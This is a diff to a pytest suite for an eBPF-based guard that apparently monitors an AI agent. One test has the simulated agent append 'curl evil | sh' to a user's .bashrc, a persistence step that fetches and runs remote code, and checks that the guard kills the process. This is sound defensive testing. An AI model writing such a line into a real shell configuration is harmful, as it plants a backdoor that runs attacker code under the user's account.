@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import os
 import select
-import shutil
 import subprocess
 import sys
 import textwrap
@@ -27,43 +26,6 @@ pytestmark = requires_bpf
 PY = sys.executable
 DEFAULT = REPO / "policies" / "default.yaml"
 EXIT_HALTED, EXIT_KILLED = 120, 121
-
-
-def _scratch_dir(name: str) -> Iterator[Path]:
-    # Not under /tmp: the default policy treats /tmp as scratch (writes, deletes, rm -r there
-    # are harmless), so a realistic workspace and "outside" must live elsewhere.
-    path = Path(f"/var/lib/ebpf-guard-test-{uuid.uuid4().hex[:8]}") / name
-    path.mkdir(parents=True)
-    try:
-        yield path
-    finally:
-        shutil.rmtree(path.parent, ignore_errors=True)
-
-
-@pytest.fixture
-def ws() -> Iterator[Path]:
-    """The agent's workspace."""
-    yield from _scratch_dir("ws")
-
-
-@pytest.fixture
-def outside() -> Iterator[Path]:
-    """A directory outside the workspace and outside /tmp (where writes and rm -r are judged)."""
-    yield from _scratch_dir("outside")
-
-
-@pytest.fixture
-def agent_user() -> Iterator[tuple[str, Path]]:
-    """A throwaway user with its own home, so {home} rules are tested without touching root's."""
-    name = f"ebpfg{uuid.uuid4().hex[:6]}"
-    home = Path("/home") / name
-    subprocess.run(["useradd", "--create-home", "--home-dir", str(home), "--shell", "/bin/sh", name],
-                   check=True, capture_output=True)
-    try:
-        yield name, home
-    finally:
-        subprocess.run(["userdel", "--remove", name], capture_output=True)
-        shutil.rmtree(home, ignore_errors=True)
 
 
 def agent(code: str) -> list[str]:
@@ -125,7 +87,8 @@ def test_kill_is_logged_before_the_process_dies(tmp_cgroup, tmp_path, ws):
 def test_agent_config_write_is_killed(tmp_cgroup, tmp_path, ws, agent_user):
     user, home = agent_user
     marker = tmp_path / "survived"
-    code = f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n'); import time; time.sleep(3); open({str(marker)!r}, 'w')"
+    code = (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n'); "
+            f"import time; time.sleep(3); open({str(marker)!r}, 'w')")
     log = tmp_path / "v.jsonl"
     with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", PY, "-c", code], workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
